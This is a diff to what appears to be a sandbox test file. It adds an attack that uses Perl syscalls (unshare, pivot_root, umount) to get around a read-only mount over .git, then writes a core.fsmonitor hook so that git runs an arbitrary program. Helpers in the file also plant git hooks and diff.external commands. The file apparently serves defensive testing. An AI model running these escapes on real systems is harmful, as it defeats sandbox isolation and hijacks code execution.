@@ -81,6 +81,8 @@ const ATTACKS: { readonly [start in Start]: { readonly [name: string]: string } 
     'mounted over': 'umount .git; mount -o remount,rw .git; mount -o remount,rw,bind .git; arm .git/config',
     'mounted over, in a namespace of its own':
       'unshare -Urm sh -c "umount .git; mount -o remount,rw,bind .git; printf \\"[core]\\\\nfsmonitor=$evil\\\\n\\" >> .git/config"',
+    'moved aside below its mount':
+      'perl -e "$below" 2>/dev/null || { mv .git gone && cp -r gone .git && arm .git/config; }',
     'a new worktree': 'git worktree add -q w; bare e; mkdir -p w; echo "gitdir: ../e" > w/.git',
     'a copy of it': 'mkdir c && cp -r .git c/.git && arm c/.git/config',
     'a submodule': 'bare .git/modules/m; mkdir -p m && echo "gitdir: ../.git/modules/m" > m/.git',
@@ -204,6 +206,24 @@ export function prepare(start: Start, folder: string): string {
   }
 }
 
+/** In a namespace of its own it takes its root away, and with it every mount: what was below them is reached by a descriptor. */
+const BELOW = `
+my ($unshare, $mount, $pivot, $umount, $fchdir) = (qx(uname -m) =~ /aarch64/) ? (97, 40, 41, 39, 50) : (272, 165, 155, 166, 81);
+opendir(my $here, ".") or die; my $none = 0; my ($dot, $root, $share) = (".", "/", "/usr/share");
+syscall($unshare, 0x10020000) == 0 or die "unshare $!";
+syscall($mount, $none, $root, $none, 0x44000, $none) == 0 or die "private $!";
+syscall($mount, $share, $share, $none, 0x1000, $none) == 0 or die "bind $!";
+chdir "/usr/share";
+syscall($pivot, $dot, $dot) == 0 or die "pivot $!";
+syscall($umount, $dot, 2) == 0 or die "umount $!";
+syscall($fchdir, fileno($here)) == 0 or die "fchdir $!";
+rename(".git", "gone") or die "rename $!"; mkdir ".git"; mkdir ".git/objects"; mkdir ".git/refs";
+for my $name ("HEAD", "index", "config") {
+  open(my $in, "<", "gone/$name") or next; open(my $out, ">", ".git/$name"); print $out $_ while <$in>;
+  print $out "[core]\\n\\tfsmonitor = $ENV{evil}\\n" if $name eq "config";
+}
+`;
+
 /** What the command of an attack begins with. The canary lies where the sandbox does not write: only outside it is made. */
 export function prelude(canary: string): string {
   return [
@@ -211,6 +231,7 @@ export function prelude(canary: string): string {
     'arm() { printf "[core]\\n\\tfsmonitor = %s\\n[diff]\\n\\texternal = %s\\n" "$evil" "$evil" >> "$1"; }',
     'hook() { mkdir -p "$1"; for h in pre-commit post-commit post-index-change prepare-commit-msg; do cp "$evil" "$1/$h"; done; }',
     'bare() { mkdir -p "$1"; git init -q --bare "$1" && git config -f "$1/config" core.bare false; arm "$1/config"; }',
+    `below='${BELOW}'; export evil`,
     'git() { command git -c user.name=a -c user.email=a@b -c init.defaultBranch=main "$@"; }',
     '',
   ].join('\n');
